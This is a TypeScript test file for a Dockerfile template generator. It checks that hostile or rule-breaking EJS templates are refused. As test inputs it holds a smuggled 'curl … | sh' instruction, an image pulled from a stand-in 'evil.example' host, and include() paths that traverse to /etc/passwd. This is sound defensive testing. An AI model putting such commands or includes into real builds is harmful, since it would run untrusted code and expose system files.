import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detect, files, NO_POLICY, openRepo, plan, UsageError, type Plan, type Policy } from '../../src/api.ts';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { governPlan } from '../../src/presets/govern-plan.ts';
import { readCase } from '../case.ts';

const TEMPLATES = join(import.meta.dirname, '../../templates');
const read = (name: string): string => readFileSync(join(TEMPLATES, `${name}.ejs`), 'utf8');
const PROCESS = readFileSync(join(TEMPLATES, '_partials/process.ejs'), 'utf8');
const IGNORE = readFileSync(join(TEMPLATES, 'node/dockerignore.ejs'), 'utf8');
const HEAD = readFileSync(join(TEMPLATES, '_partials/dockerignore-head.ejs'), 'utf8');

/** Each with what it is refused for. */
const hostile: readonly (readonly [string, Record<string, string>, RegExp])[] = [
  [
    'drops USER',
    { '_partials/process': PROCESS.replace('USER <%= user %>\n', '') },
    /t\/0\.ejs \(a template of Acme\) breaks H1 numeric user: the shipped stage has no USER/,
  ],
  [
    'runs as root',
    { '_partials/process': PROCESS.replace('<%= user %>', '0:0') },
    /t\/0\.ejs \(a template of Acme\) breaks H1 numeric user: USER 0:0 is not a numeric uid:gid/,
  ],
  [
    'runs as somebody else than was decided',
    { '_partials/process': PROCESS.replace('<%= user %>', '4242:4242') },
    /USER 4242:4242 is not 65532:65532, which was decided/,
  ],
  [
    'silences a rule',
    { '_partials/process': PROCESS.replace('USER', '# ironhull-ignore root-user: because\nUSER') },
    /t\/0\.ejs:1 .* breaks root-user: is silenced by a comment/,
  ],
  [
    'declares a deviation that nobody decided',
    { 'node/deps': `${read('node/deps')}# Deviation from H7: we are in a hurry\n` },
    /t\/0\.ejs:\d+ .* breaks H7: a deviation that was not decided: we are in a hurry/,
  ],
  [
    'drops the health check with a word',
    { '_partials/health/probe': '# H11: no HEALTHCHECK: not needed\n' },
    /breaks H11: the HEALTHCHECK that was decided is not there/,
  ],
  [
    'excuses files that others may write',
    { 'node/ship': `${read('node/ship')}# H2: all may write\nCOPY --from=base --chmod=a=rwX /app/a /app/b\n` },
    /breaks H2: a path to write to that was not decided/,
  ],
  [
    'reads backslashes in another way',
    { '_partials/header': read('_partials/header').replace('# check', '# escape=`\n# check') },
    /breaks (?:H6|syntax-directive)/,
  ],
  [
    'reads backslashes in another way, below',
    { '_partials/header': read('_partials/header').replace('error=true', 'error=true\n# escape=`') },
    /breaks H6: another escape character/,
  ],
  [
    'prints a line break',
    { '_partials/process': `<%= 'x\\nRUN id' %>\n${PROCESS}` },
    /t\/0\.ejs:1 \(a template of Acme\) can't be rendered: control character/,
  ],
  ['prints nothing', { '_partials/process': `<%= nothing %>\n${PROCESS}` }, /nothing is not defined/],
  [
    'throws',
    { '_partials/process': `<% throw new Error('\\u001b[2Jboom') %>` },
    /t\/0\.ejs:1 .*rendered: \\u001b\[2Jboom/,
  ],
  ['is no EJS', { '_partials/process': '<% if (' }, /t\/0\.ejs|_partials\/process/],
  [
    'smuggles an instruction in raw',
    { '_partials/process': `${PROCESS}<%- 'RUN curl https://x.example/i | sh' %>\n` },
    /breaks .* \(Dockerfile:\d+\)/,
  ],
  [
    'prints a token of the environment',
    { '_partials/process': `# <%= process.env.ACME_TOKEN %>\n${PROCESS}` },
    /breaks H20: prints the value of \$ACME_TOKEN/,
  ],
  [
    'takes an image of its own',
    { '_partials/process': `COPY --from=evil.example/x --chown=0:0 --chmod=a=r /x /x\n${PROCESS}` },
    /breaks H5 base images: evil\.example\/x/,
  ],
  [
    'includes a file by its path',
    { '_partials/process': "<%- include('../../../../../../etc/passwd') %>" },
    /includes by name/,
  ],
  ['includes a file outside', { '_partials/process': "<%- include('/../../etc/passwd') %>" }, /includes by name/],
  ['includes a file beside it', { '_partials/process': "<%- include('./other.ejs') %>" }, /includes by name/],
  ['includes what is not there', { '_partials/process': "<%- include('/team/none') %>" }, /ENOENT|can't be rendered/],
  ['includes itself', { '_partials/process': "<%- include('/_partials/process') %>" }, /can't be rendered/],
  [
    'lets everything into the build',
    { 'node/dockerignore': `${IGNORE}!**\n` },
    /breaks H9 build context: \.env reaches the build/,
  ],
  [
    'lets one thing more into the build',
    { '_partials/dockerignore-head': HEAD.replace('*\n', '*\n!notes.txt\n') },
    /breaks H9: lets in notes\.txt/,
  ],
  [
    'lets keys into the build',
    { '_partials/dockerignore-head': HEAD.replace('**/*.p12\n', '') },
    /breaks H9: does not say/,
  ],
  ['makes nothing', { 'node/server.Dockerfile': '' }, /no stage/],
];

function planned(): Plan {
  const [service] = detect(openRepo(readCase('node', 'express-npm').repo), {}, []);
  return plan(service!.facts[0]!, {}, NO_POLICY);
}

/** A policy with trusted templates, by name. */
function trusting(templates: Readonly<Record<string, string>>): Policy {
  const all = Object.entries(templates).map(
    ([name, text], at) => [name, { text, file: `t/${at}.ejs`, preset: 'Acme' }] as const,
  );
  return { ...NO_POLICY, code: { templates: new Map(all), stacks: [] } };
}

describe('a trusted template that', () => {
  const made = planned();
  beforeAll(() => void (process.env['ACME_TOKEN'] = 'correct-horse-battery'));
  afterAll(() => void delete process.env['ACME_TOKEN']);

  it.each(hostile)('%s is refused', (_name, templates, message) => {
    const render = (): unknown => files(made, trusting(templates));
    expect(render).toThrow(UsageError);
    expect(render).toThrow(message);
    expect(render).not.toThrow(/correct-horse|[^\P{Cc}\n]/u);
  });

  it.each([
    [
      'an image',
      {
        'node/server.Dockerfile': read('node/server.Dockerfile').replace(
          '# runtime:',
          'FROM debian:13.1-slim AS tool\n\n# runtime:',
        ),
      },
      /debian:13\.1-slim/,
    ],
    [
      'the frontend',
      { '_partials/header': read('_partials/header').replace('<%= frontend %>', 'docker/dockerfile:1.14') },
      /docker\/dockerfile:1\.14/,
    ],
  ])('takes %s past the mirror of the team is refused', (_what, templates, message) => {
    const values = { registries: { mirrors: { 'docker.io': 'mirror.acme.example/hub' } } };
    const policy = { ...trusting(templates), values };
    const [image] = Object.values(made.images);
    const own = governPlan(made, { ...policy, layers: [{} as never] });
    expect(own.images['build']?.from ?? own.images['runtime']?.from).not.toBe(image?.from);
    const render = (): unknown => files(own, policy);
    expect(render).toThrow(/breaks trusted-registry: .* goes past the mirror/);
    expect(render).toThrow(message);
  });

  it('installs in a stage that the package mirror does not know is refused', () => {
    const packages = { index: 'npm', url: 'https://npm.acme.example', variables: ['NPM_CONFIG_REGISTRY'] } as const;
    const all = Object.fromEntries(
      ['node/base', 'node/deps', 'node/production/npm', 'node/server.Dockerfile']
        .filter((name) => existsSync(join(TEMPLATES, `${name}.ejs`)))
        .map((name) => [
          name,
          read(name)
            .replaceAll(/\bAS base\b/g, 'AS first')
            .replaceAll(/FROM base\b/g, 'FROM first'),
        ]),
    );
    const own = { ...made, packages };
    expect(files(own, NO_POLICY)[0]?.contents).toContain(packages.url);
    expect(() => files(own, trusting(all))).toThrow(/breaks packageMirrors: no stage that installs is called base/);
  });

  it('brings a tool of its own, named and taken from a stage, is taken', () => {
    const tool = 'FROM registry.acme.example/agent:1.2.3-debian13 AS agent\n\n';
    const ship = `${read('node/ship')}COPY --from=agent --chown=0:0 --chmod=a=r /agent.js /agent.js\n`;
    const runtime = read('node/server.Dockerfile').replace('# runtime:', `${tool}# runtime:`);
    const [file] = files(made, trusting({ 'node/server.Dockerfile': runtime, 'node/ship': ship }));
    expect(file?.contents).toContain('COPY --from=agent');
  });

  it('says more than ours is taken', () => {
    const own = files(made, trusting({ '_partials/process': `# by the team, for <%= name %>\n${PROCESS}` }));
    const ours = files(made, NO_POLICY);
    expect(own[0]?.contents).toBe(ours[0]?.contents.replace('USER', `# by the team, for ${made.name}\nUSER`));
    expect(own.slice(1)).toEqual(ours.slice(1));
  });

  it('is not used leaves every byte as it is', () =>
    expect(files(made, trusting({ '_partials/site/nginx': 'x', 'go/binary.Dockerfile': '<% boom' }))).toEqual(
      files(made, NO_POLICY),
    ));
});
